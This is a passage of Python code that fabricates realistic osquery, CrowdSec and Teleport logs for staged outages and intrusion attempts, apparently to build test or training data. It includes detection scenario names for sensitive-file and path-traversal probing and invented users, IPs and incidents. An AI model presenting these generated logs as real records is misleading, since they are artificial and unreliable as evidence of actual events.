        for pub in ["BPFEventPublisher", "auditeventpublisher", "syslog"]:
            t = Q(
                f,
                t + secs(r, 0.001, 0.01),
                "I",
                p,
                "events.cpp:862",
                "Event publisher not enabled: %s: %s",
                pub,
                "Publisher disabled via configuration",
            )
        if verbose[f]:
            for svc in [
                "ExtensionWatcher",
                "ExtensionManagerRunner",
                "ConfigRefreshRunner",
                "DistributedRunner",
                "SchedulerRunner",
            ]:
                t = Q(
                    f,
                    t + secs(r, 0.0005, 0.003),
                    "I",
                    p,
                    "dispatcher.cpp:78",
                    "Adding new service: %s (%s) to thread: %d (%s) in process %d",
                    svc,
                    ptr(),
                    thread(),
                    ptr(),
                    p,
                )
        return t

    def boot(f: str, t: datetime) -> datetime:
        s = state[f]
        t = Q(
            f,
            t,
            "I",
            s["watcher"],
            "init.cpp:418",
            "osquery initialized [version=%s]",
            OQ_VER,
        )
        t = worker_up(f, t + secs(r, 0.05, 0.2), None)
        if f == "d":
            t = ext_start(t + secs(r, 0.1, 0.3))
        return t

    ext = {"pid": 1903}

    def ext_start(t: datetime) -> datetime:
        ext["pid"] += r.randrange(3, 40)
        path = "/usr/local/osquery/extensions/pg_stats.ext"
        t = Q(
            "d",
            t,
            "I",
            state["d"]["watcher"],
            "watcher.cpp:702",
            "Created and monitoring extension child (%d): %s",
            ext["pid"],
            path,
        )
        return Q(
            "d",
            t + secs(r, 0.3, 0.8),
            "I",
            state["d"]["worker"] + 7,
            "interface.cpp:137",
            "Registering extension (%s, %d, version=%s, sdk=%s)",
            "pg_stats",
            r.randrange(10000, 60000),
            "0.4.2",
            OQ_VER,
        )

    boot("w", t0)
    boot("d", t0 + secs(r, 0.3, 2))

    # the watchdog on web-07
    downs: dict[str, list[tuple[datetime, datetime]]] = {"w": [], "d": []}
    for when, why, q in [
        (
            at(7, 18, 44),
            "Maximum sustainable CPU utilization limit exceeded: %d",
            "pack_incident-response_process_memory",
        ),
        (
            at(8, 52, 9),
            "Memory limits exceeded: %d",
            "pack_incident-response_open_sockets",
        ),
    ]:
        s = state["w"]
        val = 12 if "CPU" in why else r.randrange(210_000_000, 290_000_000)
        Q(
            "w",
            when,
            "W",
            s["watcher"],
            "watcher.cpp:418",
            "osqueryd worker (%d) stopping: " + why,
            s["worker"],
            val,
        )
        s["worker"] += r.randrange(200, 2000)
        back = worker_up("w", when + secs(r, 3, 6), q)
        downs["w"].append((when - timedelta(seconds=1), back))

    def live(f: str, x: datetime) -> bool:
        return all(not (a <= x < b) for a, b in downs[f])

    # scheduled queries (logged at verbose on db-02; errors on both)
    for f in ["w", "d"]:
        sched = list(OQ_SCHEDULE) + ([OQ_PG] if f == "d" else [])
        for name, sql, every in sched:
            x = t0 + secs(r, 5, min(every, 300))
            while x < t_end:
                if live(f, x):
                    p = state[f]["worker"]
                    if verbose[f]:
                        x = Q(
                            f,
                            x,
                            "I",
                            p,
                            "scheduler.cpp:116",
                            "Executing scheduled query %s: %s",
                            name,
                            sql,
                        )
                    if name == OQ_PG[0] and x >= ext_crash:
                        Q(
                            f,
                            x + secs(r, 0.001, 0.01),
                            "E",
                            p,
                            "scheduler.cpp:139",
                            "Error executing scheduled query %s: no such table: %s",
                            name,
                            "postgres_stats",
                        )
                    elif name == "pack_incident-response_crontab" and f == "w" and r.random() < 0.3:
                        Q(
                            f,
                            x + secs(r, 0.001, 0.01),
                            "W",
                            p,
                            "crontab.cpp:61",
                            "Error reading %s: Permission denied",
                            "/var/spool/cron/crontabs",
                        )
                x += timedelta(seconds=every) + secs(r, -2, 2)

    # Fleet: config refresh, the logger, distributed reads
    def tls_err(x: datetime) -> str | None:
        if tls0 <= x < tls1:
            return OQ_TLS
        if ref0 <= x < ref1:
            return OQ_REFUSED
        return None

    for f in ["w", "d"]:
        for kind, every in [("config", 60), ("logger", 10), ("distributed", 60)]:
            x = t0 + secs(r, 2, every)
            while x < t_end:
                err = tls_err(x)
                p = state[f]["worker"]
                if live(f, x) and (err or (verbose[f] and kind != "logger")):
                    path = {
                        "config": "/api/osquery/config",
                        "logger": "/api/osquery/log",
                        "distributed": "/api/osquery/distributed/read",
                    }[kind]
                    if verbose[f] and kind != "logger":
                        x = Q(
                            f,
                            x,
                            "I",
                            p,
                            "tls.cpp:253",
                            "TLS/HTTPS POST request to URI: %s",
                            OQ_FLEET + path,
                        )
                    if err:
                        if kind == "config":
                            fmt, lv, src = "Error refreshing config: %s", "W", "config.cpp:601"
                        elif kind == "logger":
                            fmt, lv, src = (
                                "Error sending results to logger: %s",
                                "W",
                                "buffered.cpp:188",
                            )
                        else:
                            fmt, lv, src = (
                                "Error retrieving distributed queries: %s",
                                "E",
                                "distributed.cpp:118",
                            )
                        Q(
                            f,
                            x + secs(r, 0.001, 0.2),
                            lv,
                            p,
                            src,
                            fmt.replace("%s", err),
                            msg=fmt % err,
                        )
                x += timedelta(seconds=every) + secs(r, -0.5, 0.5)
        # live queries from Fleet (verbose only)
        if verbose[f]:
            for x in poisson(r, t0 + timedelta(minutes=10), t_end, 700):
                if live(f, x) and not tls_err(x):
                    qid = r.randrange(1200, 1900)
                    sql = r.choice(
                        [
                            "SELECT * FROM processes WHERE name = 'postgres';",
                            "SELECT name, version FROM deb_packages WHERE name LIKE 'openssl%';",
                            "SELECT * FROM logged_in_users;",
                            "SELECT path, mode, uid FROM file WHERE path = '/etc/sudoers';",
                        ]
                    )
                    Q(
                        f,
                        x,
                        "I",
                        state[f]["worker"],
                        "distributed.cpp:227",
                        "Executing distributed query: %s: %s",
                        f"fleet_distributed_query_{qid}",
                        sql,
                    )

    # a live query with a typo, and inotify watches web-07 cannot add
    for f in ["w", "d"]:
        if verbose[f]:
            x = at(7, 3, 11)
            for qid in [1587, 1588]:
                x = Q(
                    f,
                    x + secs(r, 20, 90),
                    "E",
                    state[f]["worker"],
                    "distributed.cpp:241",
                    'Error executing distributed query: %s: near "%s": syntax error',
                    f"fleet_distributed_query_{qid}",
                    "FORM",
                )
    x = at(6, 47, 30)
    for path in ["/home/deploy/.ssh/", "/var/www/releases/20240604-0645/", "/root/.ssh/"]:
        x = Q(
            "w",
            x + secs(r, 0.01, 0.2),
            "W",
            state["w"]["worker"],
            "inotify.cpp:466",
            "Could not add inotify watch on: %s",
            path,
        )
    # file events expiring on web-07
    for x in poisson(r, t0 + timedelta(minutes=5), t_end, 150):
        if live("w", x):
            Q(
                "w",
                x,
                "I",
                state["w"]["worker"],
                "events.cpp:468",
                "Expiring events for subscriber: %s (overflowed limit %d)",
                "file_events",
                50000,
            )
    # db-02's extension
    x = ext_crash
    for _ in range(3):
        x = ext_start(x + secs(r, 1, 3))
        x += secs(r, 2, 6)
    Q(
        "d",
        x + secs(r, 1, 2),
        "W",
        state["d"]["watcher"],
        "watcher.cpp:678",
        "Extension respawning too quickly: %s",
        "/usr/local/osquery/extensions/pg_stats.ext",
    )
    # reinstalled by hand at 09:31 with the wrong mode
    Q(
        "d",
        at(9, 31, 7) + secs(r, 0, 1),
        "W",
        state["d"]["watcher"],
        "watcher.cpp:690",
        "Extension binary has unsafe permissions: %s",
        "/usr/local/osquery/extensions/pg_stats.ext",
    )
    # a config change pushed from Fleet
    for f in ["w", "d"]:
        Q(
            f,
            at(8, 31, 0) + secs(r, 0, 60),
            "I",
            state[f]["worker"],
            "config.cpp:812",
            "Refreshing configuration state",
        )
    return o.logs(t0, {"w": "osquery-web-07.log", "d": "osquery-db-02.log"})


# --------------------------------------------------------------------------------- crowdsec

CS_VER = "v1.6.2-debian-pragmatic-amd64-523164f6"
CS_UA = "crowdsec/v1.6.2-debian-pragmatic-amd64-523164f6-linux"
CS_FW = (
    "crowdsec-firewall-bouncer/v0.0.28-debian-pragmatic-1f8a9b3d2e4c5f6a7b8c9d0e1f2a3b4c5d6e7f8a"
)
CS_NGX = "lua-resty-http/0.17.1 (Lua) ngx_lua/10026"
CS_TRAEFIK = "Crowdsec-Bouncer-Traefik-Plugin/1.X.X"
CS_SCENARIOS = [
    ("crowdsecurity/ssh-bf", "leaky", "ssh-bf.yaml", "4h"),
    ("crowdsecurity/ssh-slow-bf", "leaky", "ssh-bf.yaml", "4h"),
    ("crowdsecurity/http-probing", "leaky", "http-probing.yaml", "4h"),
    ("crowdsecurity/http-crawl-non_statics", "leaky", "http-crawl-non_statics.yaml", "4h"),
    ("crowdsecurity/http-bad-user-agent", "leaky", "http-bad-user-agent.yaml", "4h"),
    ("crowdsecurity/http-sensitive-files", "leaky", "http-sensitive-files.yaml", "4h"),
    (
        "crowdsecurity/http-path-traversal-probing",
        "leaky",
        "http-path-traversal-probing.yaml",
        "4h",
    ),
    ("crowdsecurity/CVE-2021-41773", "trigger", "CVE-2021-41773.yaml", "4h"),
    ("crowdsecurity/http-wordpress-scan", "leaky", "http-wordpress_wpconfig.yaml", "4h"),
    ("crowdsecurity/http-cve-2021-42013", "trigger", "http-cve-2021-42013.yaml", "4h"),
]
CS_GEO = [
    ("CN", 4134),
    ("RU", 49505),
    ("NL", 1136),
    ("US", 14061),
    ("DE", 24940),
    ("VN", 45899),
    ("BR", 28573),
    ("IN", 9829),
    ("SG", 16509),
    ("FR", 16276),
]
CS_LISTS = [
    ("crowdsecurity/community-blocklist", 14000, 15500),
    ("lists:firehol_cruzit_web_attacks", 0, 120),
    ("lists:firehol_greensnow", 0, 300),
]


def crowdsec(r: random.Random) -> list[Log]:
    """The CrowdSec 1.6.2 agent with its local API on a web server, 06:00 to 09:30. The
    firewall bouncer streams decisions every ten seconds; nginx's lua bouncer looks up
    client IPs now and then; the agent heartbeats every 30 s and posts an alert for each
    overflow (SSH brute force, HTTP probing, crawlers, bad user agents, sensitive files, two
    CVE triggers); the internal monitor is whitelisted. logrotate moves nginx's log at 06:25;
    `cscli hub upgrade` at 07:30 is followed by a SIGHUP; CAPI is unreachable 07:50-08:05; a new
    Traefik bouncer with a wrong key gets 403s 08:10-08:26; the 09:05 upgrade brings a parser
    the new version rejects (three fatal starts) until the admin fixes it at 09:12."""

    def head(t: datetime, lvl: str, ctx: str) -> str:
        return f'time="{t:%Y-%m-%dT%H:%M:%SZ}" level={lvl} msg='

    o = Out(1, ["c"], head)
    t0, t_end = at(6, 0, 2), at(9, 30, 0)
    hup = at(7, 30, 41)
    capi0, capi1 = at(7, 50, 12), at(8, 5, 40)
    tr0, tr1 = at(8, 10, 3), at(8, 26, 50)
    stop, fixed = at(9, 5, 9), at(9, 12, 30)

    def q(s: str) -> str:
        return '"' + s.replace("\\", "\\\\").replace('"', '\\"') + '"'

    def C(t: datetime, lvl: str, fmt: str, *args: object, fields: str = "") -> datetime:
        text = fmt % args if args else fmt
        return o.e("c", t, fmt, lvl=lvl, msg=q(text) + (" " + fields if fields else ""))

    def gin(t: datetime, ip: str, method: str, path: str, status: int, ua: str, label: str) -> None:
        d = r.choice(
            [
                f"{r.uniform(0.1, 9.9):.1f}ms",
                f"{r.randrange(100, 999)}.{r.randrange(1000):03d}µs",
                f"{r.uniform(10, 60):.4f}ms",
            ]
        )
        text = f'{ip} - [{t:%a, %d %b %Y %H:%M:%S} UTC] "{method} {path} HTTP/1.1 {status} {d} "{ua}" "'
        o.e("c", t, label, lvl="info", msg=q(text))

    def boot(t: datetime, reload: bool = False, broken: bool = False) -> datetime:
        if not reload:
            t = C(t, "info", "Crowdsec %s", CS_VER)
            t = C(t, "info", "Loading prometheus collectors")
            t = C(t, "info", "Loading CAPI manager")
            t = C(t, "info", "CAPI manager configured successfully")
            for what, a in [
                ("push to", "10s"),
                ("pull from", "2h0m0s"),
                ("send metrics to", "30m0s"),
            ]:
                t = C(
                    t,
                    "info",
                    f"Start {what} CrowdSec Central API (interval: %s once, then %s)",
                    a,
                    a,
                )
        t = C(t, "info", "Loading grok library %s", "/etc/crowdsec/patterns")
        t = C(t, "info", "Loading enrich plugins")
        for e in [
            "GeoIpCity",
            "GeoIpASN",
            "IpToRange",
            "reverse_dns",
            "ParseDate",
            "UnmarshalJSON",
        ]:
            t = C(t, "info", "Successfully registered enricher '%s'", e)
        t = C(t, "info", "Loading parsers from %d files", 14)
        if broken:
            return C(
                t,
                "fatal",
                "crowdsec init: while loading parsers: failed to load parser config %s: compiling filter: unknown name %s (%d:%d)",
                "/etc/crowdsec/parsers/s01-parse/nginx-custom.yaml",
                "evt.Parsed.request_uri",
                1,
                8,
            )
        t = C(t, "info", "Loaded %d parser nodes", 31)
        t = C(t, "info", "Loading postoverflow parsers")
        t = C(t, "info", "Loading %d scenario files", len(CS_SCENARIOS))
        for name, typ, file, _ in CS_SCENARIOS:
            t = C(
                t,
                "info",
                "Adding %s bucket",
                typ,
                fields=f"cfg={r.choice(['shy', 'cool', 'dark', 'long', 'late'])}-{r.choice(['frost', 'sun', 'wood', 'sea', 'moon'])} file=/etc/crowdsec/scenarios/{file} name={name}",
            )
        t = C(t, "info", "Loading acquisition file : %s", "/etc/crowdsec/acquis.yaml")
        for f in ["/var/log/auth.log", "/var/log/nginx/access.log", "/var/log/nginx/error.log"]:
            t = C(t, "info", "Adding file %s to datasources", f, fields="type=file")
        t = C(
            t,
            "warning",
            "No matching files for pattern %s",
            "/var/log/mysql/error.log",
            fields="type=file",
        )
        t = C(t, "info", "Starting processing data")
        if not reload:
            t = C(t, "info", "CrowdSec Local API listening on %s", "127.0.0.1:8080")
        return t

    boot(t0)
    downs = [(hup, hup + timedelta(seconds=4)), (stop, fixed + timedelta(seconds=6))]

    def up(x: datetime) -> bool:
        return x < t_end and all(not (a <= x < b) for a, b in downs)

    # the firewall bouncer's stream, the agent's heartbeat, nginx's lookups
    for x in poisson(r, t0 + timedelta(seconds=4), t_end, 10.0):
        if up(x):
            gin(
                x,
                "127.0.0.1",
                "GET",
                "/v1/decisions/stream",
                200,
                CS_FW,
                "GET /v1/decisions/stream 200",
            )
    x = t0 + secs(r, 20, 30)
    while x < t_end:
        if up(x):
            gin(x, "127.0.0.1", "GET", "/v1/heartbeat", 200, CS_UA, "GET /v1/heartbeat 200")
        x += secs(r, 29.5, 30.5)
    for x in poisson(r, t0 + timedelta(seconds=30), t_end, 60):
        if up(x):
            ip = f"{r.choice([66, 85, 151, 176, 188, 212])}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"
            gin(
                x,
                "127.0.0.1",
                "GET",
                f"/v1/decisions?ip={ip}",
                200,
                CS_NGX,
                "GET /v1/decisions 200",
            )
    # overflows and bans
    pending: list[datetime] = []
    for x in poisson(r, t0 + timedelta(minutes=2), t_end, 110):
        if not up(x):
            continue
        name, _, _, dur = r.choices(CS_SCENARIOS, weights=[30, 6, 18, 10, 8, 10, 5, 2, 8, 2])[0]
        ip = f"{r.choice([45, 61, 103, 118, 185, 193, 194, 203, 222])}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"
        cc, asn = r.choice(CS_GEO)
        n = 1 if name.endswith(("41773", "42013")) else r.randrange(5, 40)
        span = "0s" if n == 1 else f"{r.uniform(0.5, 60):.9f}s".rstrip("0")
        ts = f"{x:%Y-%m-%d %H:%M:%S} +0000 UTC"
        x = C(x, "info", "Ip %s performed '%s' (%d events over %s) at %s", ip, name, n, span, ts)
        mid = hexid(r, 32)
        x = C(
            x + secs(r, 0, 1.2),
            "info",
            "(%s/crowdsec) %s by ip %s (%s/%d) : %s ban on Ip %s",
            mid,
            name,
            ip,
            cc,
            asn,
            dur,
            ip,
        )
        gin(
            x + secs(r, 0, 1.2),
            "127.0.0.1",
            "POST",
            "/v1/alerts",
            201,
            CS_UA,
            "POST /v1/alerts 201",
        )
        pending.append(x)
    # the internal monitor, whitelisted
    for x in poisson(r, t0 + timedelta(minutes=1), t_end, 300):
        if up(x):
            C(
                x,
                "info",
                "Event from [%s] is whitelisted by IPs : %s",
                "10.0.0.4",
                "private ipv4/ipv6 ip/ranges",
                fields="id=restless-sea name=crowdsecurity/whitelists stage=s02-enrich",
            )
    # signals pushed every ten seconds when there are any
    pending.sort()
    x = t0 + timedelta(seconds=10)
    i = 0
    while x < t_end:
        n = 0
        while i < len(pending) and pending[i] <= x:
            n += 1
            i += 1
        if n and up(x):
            if capi0 <= x < capi1:
                C(
                    x,
                    "error",
                    'capi push: Post "%s": dial tcp %s: i/o timeout',
                    "https://api.crowdsec.net/v3/signals",
                    "18.203.141.41:443",
                )
                i -= n
            else:
                C(x, "info", "Signal push: %d signals to push", n)
        x += timedelta(seconds=10)
    # CAPI pulls and metrics
    for p in [t0 + timedelta(seconds=3), at(8, 0, 5), at(9, 12, 40)]:
        if capi0 <= p < capi1:
            C(
                p,
                "error",
                'capi pull top: Get "%s": dial tcp %s: i/o timeout',
                "https://api.crowdsec.net/v3/decisions/stream",
                "18.203.141.41:443",
            )
            p = capi1 + secs(r, 5, 30)
        for lst, lo, hi in CS_LISTS:
            p = C(
                p + secs(r, 1, 3),
                "info",
                "%s : added %d entries, deleted %d entries (alert:%d)",
                lst,
                r.randrange(lo, hi),
                r.randrange(lo, hi),
                r.randrange(1, 9000),
            )
    x = t0 + timedelta(minutes=30)
    while x < t_end:
        if up(x):
            if capi0 <= x < capi1:
                C(
                    x,
                    "error",
                    'capi metrics: failed: Post "%s": dial tcp %s: i/o timeout',
                    "https://api.crowdsec.net/v3/metrics/",
                    "18.203.141.41:443",
                )
            else:
                C(x, "info", "capi metrics: metrics sent successfully")
        x += timedelta(minutes=30)
    # nginx's log rotated
    x = at(6, 25, 2)
    for f in ["/var/log/nginx/access.log", "/var/log/nginx/error.log"]:
        x = C(
            x, "info", "Re-opening moved/deleted file %s ...", f, fields=f"filename={f} type=file"
        )
        x = C(
            x + secs(r, 0, 1.5),
            "info",
            "Successfully reopened %s",
            f,
            fields=f"filename={f} type=file",
        )
    # the SIGHUP
    x = C(hup, "warning", "SIGHUP received, reloading")
    x = C(x, "info", "Shutting down crowdsec sub-routines")
    x = C(x + secs(r, 0.5, 2), "info", "crowdsec sub-routines have been shut down")
    x = boot(x + secs(r, 0.2, 1), reload=True)
    C(x, "info", "Reload is finished")
    # the Traefik bouncer with a wrong key
    for x in poisson(r, tr0, tr1, 10):
        x = C(x, "error", "API key not found")
        gin(
            x,
            "172.18.0.5",
            "GET",
            "/v1/decisions/stream?startup=true",
            403,
            CS_TRAEFIK,
            "GET /v1/decisions/stream 403",
        )
    gin(
        tr1 + secs(r, 1, 5),
        "172.18.0.5",
        "GET",
        "/v1/decisions/stream?startup=true",
        200,
        CS_TRAEFIK,
        "GET /v1/decisions/stream 200",
    )
    # the upgrade
    x = C(stop, "warning", "SIGTERM received, shutting down")
    x = C(x, "info", "Shutting down crowdsec sub-routines")
    x = C(x + secs(r, 0.5, 2), "info", "crowdsec sub-routines have been shut down")
    x = C(x, "info", "crowdsec shutdown")
    x += secs(r, 20, 40)
    for _ in range(3):
        x = boot(x, broken=True)
        x += secs(r, 5.5, 7)
    x = boot(fixed)
    return o.logs(t0, {"c": "crowdsec.log"})


# --------------------------------------------------------------------------------- teleport

TP_VER = "15.3.7:v15.3.7-0-g8a1e3f4"
TP_CLUSTER = "teleport.example.com"
TP_USERS = {
    "alice": "10.20.1.14",
    "bob": "10.20.1.33",
    "carol": "100.64.7.9",
    "dmitri": "10.20.1.51",
}
TP_NODES = {
    "db-01": "a7c2e4f1-93b0-4d5e-8f21-6c0a9b3e7d42",
    "web-02": "3f0b8d6a-12c4-4e7f-9a35-b1d2c8e6f407",
}


def teleport(r: random.Random) -> list[Log]:
    """A Teleport 15.3 cluster, 06:00 to 09:40: tp-1 runs the auth and proxy services
    (`teleport.log`), db-01 an SSH node over a reverse tunnel (`node-db-01.log`). Engineers log
    in (now and then with a wrong password), open interactive sessions (some joined by a
    colleague) and port forwards to Postgres; a deploy bot (tbot) renews its certificate every
    20 minutes and runs commands on db-01 every two minutes; CI calls the Kubernetes API
    through the proxy. Scanners hit the proxy's 443 all day. At 08:00 tp-1 is upgraded: auth
    and proxy stop for three minutes and db-01 loses its connection (cache, rotation sync,
    heartbeat, a failed recording upload with its error report) and reconnects. At 09:02 the
    audit log's disk fills for six minutes (events fail to emit)."""

    def head(t: datetime, lvl: str, ctx: str) -> str:
        return f"{t:%Y-%m-%dT%H:%M:%SZ} {lvl} {'[' + ctx + ']':<11} "

    o = Out(1, ["a", "n"], head)
    t0, t_end = at(6, 0, 3), at(9, 40, 0)
    down0, down1 = at(8, 0, 12), at(8, 3, 20)
    full0, full1 = at(9, 2, 30), at(9, 8, 40)
    apid = {"a": "7.1", "n": "1211.1"}

    def T(
        f: str,
        t: datetime,
        lvl: str,
        comp: str,
        fmt: str,
        *args: object,
        fields: str = "",
        caller: str,
        msg: str | None = None,
        cont=(),
    ) -> datetime:
        text = msg if msg is not None else fmt.replace("%v", "%s").replace("%q", '"%s"') % args
        tail = (fields + " " if fields else "") + f"pid:{apid[f]} {caller}"
        lines = (text + " " + tail).split("\n") if "\n" in text else [text + " " + tail]
        return o.e(f, t, fmt, lvl=lvl, ctx=comp, msg=lines[0], cont=[*lines[1:], *cont])

    def audit(t: datetime, event: str, code: str, **kv: str) -> datetime:
        if full0 <= t < full1:
            return T(
                "a",
                t,
                "ERRO",
                "AUDIT",
                "Failed to emit audit event %v(%v).",
                msg=f"Failed to emit audit event {event}({code}).",
                fields="error:[write /var/lib/teleport/log/events/2024-06-04.00:00:00.log: no space left on device]",
                caller="events/emitter.go:101",
            )
        kv = {"cluster_name": TP_CLUSTER, "code": code, "ei": "0", "event": event, **kv}
        kv["time"] = f"{t:%Y-%m-%dT%H:%M:%S}.{r.randrange(10**6):06d}Z"
        kv["uid"] = uuid4(r)
        return T(
            "a",
            t,
            "INFO",
            "AUDIT",
            event,
            msg=event,
            fields=" ".join(f"{k}:{v}" for k, v in sorted(kv.items())),
            caller="events/emitter.go:288",
        )

    def boot(t: datetime) -> datetime:
        t = T(
            "a",
            t,
            "INFO",
            "PROC:1",
            "Service %s is creating new listener on %s.",
            "auth",
            "0.0.0.0:3025",
            caller="service/signals.go:212",
        )
        t = T(
            "a",
            t,
            "INFO",
            "AUTH:1",
            "Auth service %s is starting on %s.",
            TP_VER,
            "0.0.0.0:3025",
            caller="utils/cli.go:296",
        )
        t = T(
            "a",
            t,
            "INFO",
            "AUTH",
            "Updating cluster networking configuration: %v.",
            'Kind:"cluster_networking_config" Version:"v2" Metadata:<Name:"cluster-networking-config" Namespace:"default" Labels:<key:"teleport.dev/origin" value:"defaults" > > Spec:<KeepAliveInterval:300000000000 KeepAliveCountMax:3 ProxyListenerMode:Multiplex > ',
            caller="auth/init.go:691",
        )
        for svc, addr in [
            ("proxy:web", "0.0.0.0:3080"),
            ("proxy:tunnel", "0.0.0.0:3024"),
            ("proxy:web:tls", "0.0.0.0:443"),
        ]:
            t = T(
                "a",
                t,
                "INFO",
                "PROC:1",
                "Service %s is creating new listener on %s.",
                svc,
                addr,
                caller="service/signals.go:212",
            )
        t = T(
            "a",
            t,
            "INFO",
            "PROXY:SER",
            "Reverse tunnel service %s is starting on %s.",
            TP_VER,
            "0.0.0.0:3024",
            caller="utils/cli.go:296",
        )
        t = T(
            "a",
            t,
            "INFO",
            "PROXY:SER",
            "Web proxy service %s is starting on %s.",
            TP_VER,
            "0.0.0.0:3080",
            caller="utils/cli.go:296",
        )
        t = T(
            "a",
            t,
            "INFO",
            "PROXY:SER",
            "Starting TLS ALPN SNI proxy server on %v.",
            "0.0.0.0:443",
            caller="service/service.go:4672",
        )
        return T(
            "a",
            t + secs(r, 0.5, 2),
            "INFO",
            "PROC:1",
            "The new service has started successfully. Starting syncing rotation status with period %v.",
            "10m0s",
            caller="service/connect.go:648",
        )

    boot(t0)

    def aup(x: datetime) -> bool:
        return not (down0 <= x < down1) and x < t_end

    # users' logins and sessions
    for x in poisson(r, t0 + timedelta(minutes=5), t_end, 330):
        if not aup(x):
            continue
        user = r.choice(list(TP_USERS))
        ip = TP_USERS[user]
        if r.random() < 0.15:
            audit(
                x,
                "user.login",
                "T1000W",
                **{
                    "addr.remote": f"{ip}:{r.randrange(40000, 65000)}",
                    "error": '"invalid username, password or second factor"',
                    "method": "local",
                    "success": "false",
                    "user": user,
                    "user_agent": "tsh/15.3.7",
                },
            )
            x += secs(r, 10, 30)
        x = audit(
            x,
            "user.login",
            "T1000I",
            **{
                "addr.remote": f"{ip}:{r.randrange(40000, 65000)}",
                "method": "local",
                "mfa_device": "map[mfa_device_name:yubikey mfa_device_type:WebAuthn]",
                "success": "true",
                "user": user,
                "user_agent": "tsh/15.3.7",
            },
        )
        x = T(
            "a",
            x + secs(r, 0, 1),
            "INFO",
            "CA",
            "Generating TLS certificate %v dns_names:%v key_usage:%v not_after:%v",
            msg=f'Generating TLS certificate {{0x{hexid(r, 10)} 1.3.9999.1.7=#13{hexid(r, 40)},CN={user},O=access,POSTALCODE={{\\"kubernetes_groups\\":null}},STREET={TP_CLUSTER}}} dns_names:[] key_usage:5 not_after:{x + timedelta(hours=12):%Y-%m-%d %H:%M:%S} +0000 UTC',
            caller="tlsca/ca.go:1151",
        )
        x = audit(
            x,
            "cert.create",
            "TC000I",
            **{
                "cert_type": "user",
                "identity.user": user,
                "identity.logins": "[root ubuntu -teleport-internal-join]",
            },
        )
        for _ in range(r.randrange(1, 4)):
            x += secs(r, 20, 300)
            if not aup(x):
                break
            node = r.choice(list(TP_NODES))
            sid = uuid4(r)
            login = r.choice(["root", "ubuntu"])
            addr = {
                "addr.local": f"10.20.2.{11 if node == 'db-01' else 12}:3022",
                "addr.remote": f"{ip}:{r.randrange(40000, 65000)}",
            }
            x = audit(
                x,
                "session.start",
                "T2000I",
                **addr,
                login=login,
                namespace="default",
                server_hostname=node,
                server_id=TP_NODES[node],
                sid=sid,
                size="120:40",
                user=user,
            )
            if node == "db-01":
                T(
                    "n",
                    x + secs(r, 0, 0.5),
                    "INFO",
                    "SESSION:1",
                    "Creating (interactive) session %v.",
                    sid,
                    caller="srv/sess.go:1067",
                )
            dur = secs(r, 60, 1500)
            if r.random() < 0.25:
                other = r.choice([u for u in TP_USERS if u != user])
                audit(
                    x + dur / 3,
                    "session.join",
                    "T2001I",
                    login=login,
                    server_hostname=node,
                    sid=sid,
                    user=other,
                )
                audit(
                    x + dur / 2,
                    "session.leave",
                    "T2003I",
                    server_hostname=node,
                    sid=sid,
                    user=other,
                )
            end = x + dur
            if node == "db-01" and down0 <= end < down1 + timedelta(seconds=30):
                end = down0 - secs(r, 5, 20)
            if aup(end):
                audit(end, "session.leave", "T2003I", server_hostname=node, sid=sid, user=user)
                audit(
                    end + secs(r, 0, 1),
                    "session.end",
                    "T2004I",
                    interactive="true",
                    participants=f"[{user}]",
                    server_hostname=node,
                    session_start=f"{x:%Y-%m-%dT%H:%M:%SZ}",
                    session_stop=f"{end:%Y-%m-%dT%H:%M:%SZ}",
                    sid=sid,
                    user=user,
                )
                if node == "db-01":
                    T(
                        "n",
                        end,
                        "INFO",
                        "SESSION:1",
                        "Closing session %v.",
                        sid,
                        caller="srv/sess.go:846",
                    )
                audit(
                    end + secs(r, 1, 4),
                    "session.upload",
                    "T2005I",
                    sid=sid,
                    url=f"file:///var/lib/teleport/log/records/{sid}.tar",
                )
    # port forwards to Postgres on db-01 (one channel per connection)
    for x in poisson(r, at(6, 40), at(9, 20), 28):
        if aup(x):
            audit(
                x,
                "port",
                "T3003I",
                **{
                    "addr.local": "10.20.2.11:3022",
                    "addr.remote": f"10.20.1.51:{r.randrange(40000, 65000)}",
                    "dst": "localhost:5432",
                },
                login="ubuntu",
                server_hostname="db-01",
                user="dmitri",
            )
    # the bot
    x = t0 + secs(r, 60, 200)
    while x < t_end:
        x += timedelta(minutes=20)
        if aup(x):
            T(
                "a",
                x,
                "INFO",
                "CA",
                "Generating TLS certificate %v dns_names:%v key_usage:%v not_after:%v",
                msg=f'Generating TLS certificate {{0x{hexid(r, 10)} 1.3.9999.1.7=#13{hexid(r, 40)},CN=bot-deploy,O=bot-deploy,POSTALCODE={{\\"kubernetes_groups\\":null}},STREET={TP_CLUSTER}}} dns_names:[] key_usage:5 not_after:{x + timedelta(hours=1):%Y-%m-%d %H:%M:%S} +0000 UTC',
                caller="tlsca/ca.go:1151",
            )
            audit(
                x + secs(r, 0, 1),
                "cert.create",
                "TC000I",
                **{
                    "cert_type": "user",
                    "identity.user": "bot-deploy",
                    "identity.logins": "[deploy]",
                },
            )
    x = t0 + secs(r, 30, 120)
    while x < t_end:
        if aup(x):
            cmd = r.choice(
                [
                    "systemctl is-active postgresql",
                    "df -h /var/lib/postgresql",
                    "sudo -u postgres psql -Atc 'select pg_is_in_recovery()'",
                    "uptime",
                ]
            )
            sid = uuid4(r)
            audit(
                x,
                "exec",
                "T3002I",
                **{
                    "addr.local": "10.20.2.11:3022",
                    "addr.remote": f"10.20.3.7:{r.randrange(40000, 65000)}",
                    "command": f'"{cmd}"',
                    "exitCode": "0",
                    "exitError": '""',
                },
                login="deploy",
                server_hostname="db-01",
                sid=sid,
                user="bot-deploy",
            )
            T(
                "n",
                x - secs(r, 0.05, 0.3),
                "INFO",
                "SESSION:1",
                "Creating (exec) session %v.",
                sid,
                caller="srv/sess.go:1067",
            )
        x += secs(r, 118, 122)
    # CI's Kubernetes requests
    for x in poisson(r, t0, t_end, 30):
        if aup(x):
            for _ in range(r.randrange(1, 4)):
                x = audit(
                    x + secs(r, 0, 1),
                    "kube.request",
                    "T3009I",
                    kubernetes_cluster="prod-eu",
                    request_path=r.choice(
                        [
                            "/api/v1/namespaces/shop/pods",
                            "/apis/apps/v1/namespaces/shop/deployments/web",
                            "/api/v1/namespaces/shop/configmaps/web-env",
                        ]
                    ),
                    response_code=r.choice(["200", "200", "200", "404"]),
                    user="bot-ci",
                    verb=r.choice(["GET", "GET", "PATCH", "LIST"]),
                )
    # scanners on 443
    for x in poisson(r, t0, t_end, 70):
        if aup(x):
            err = r.choices(
                [
